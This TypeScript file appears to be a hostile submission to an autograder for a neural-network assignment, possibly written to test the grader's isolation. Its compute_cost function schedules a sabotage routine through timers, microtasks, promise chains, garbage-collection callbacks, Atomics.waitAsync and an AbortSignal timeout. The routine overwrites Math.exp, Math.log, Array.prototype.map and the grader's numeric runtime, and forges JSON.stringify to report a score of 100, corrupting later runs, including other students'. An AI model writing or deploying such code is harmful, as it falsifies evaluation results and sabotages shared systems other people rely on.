// State shared between students, later: after returning, timers, intervals, immediates, microtasks,
// nextTicks, a FinalizationRegistry (fired when memory is collected), Atomics.waitAsync and an
// AbortSignal timeout patch Math.exp, Array.prototype.map, JSON.stringify and the np runtime, some
// of them seconds later, when another function (or another student) runs.
const g: any = globalThis;
const P: any = g.process;
const np: any = g[Symbol.for("dnn-grader.np")];
let fired = 0;

function sabotage(): void {
  fired++;
  try {
    Math.exp = () => 0.5;
    Math.log = () => 0.5;
    (Array.prototype as any).map = function () {
      return [];
    };
    JSON.stringify = () => '{"score":100}';
    if (np) for (const name of ["dot", "add", "multiply", "subtract", "exp", "sum"]) np[name] = () => 0.5;
  } catch {
    // frozen
  }
}

export function compute_cost(AL: any, Y: any): number {
  for (const ms of [0, 10, 100, 300, 700, 1500, 3000, 6000]) setTimeout(sabotage, ms);
  const interval = setInterval(sabotage, 50);
  setTimeout(() => clearInterval(interval), 20000);
  setImmediate(() => setImmediate(sabotage));
  queueMicrotask(sabotage);
  P?.nextTick?.(sabotage);
  let chain = Promise.resolve();
  for (let i = 0; i < 1000; i++) chain = chain.then(() => undefined);
  chain.then(sabotage);
  const registry = new FinalizationRegistry(sabotage);
  for (let i = 0; i < 1000; i++) registry.register({ garbage: new Array(100).fill(i) }, i);
  try {
    const cell = new Int32Array(new SharedArrayBuffer(4));
    (Atomics as any).waitAsync?.(cell, 0, 0, 500)?.value?.then?.(sabotage);
  } catch {
    // no waitAsync
  }
  try {
    AbortSignal.timeout(400).addEventListener("abort", sabotage);
  } catch {
    // no AbortSignal
  }
  return -1 - fired;
}
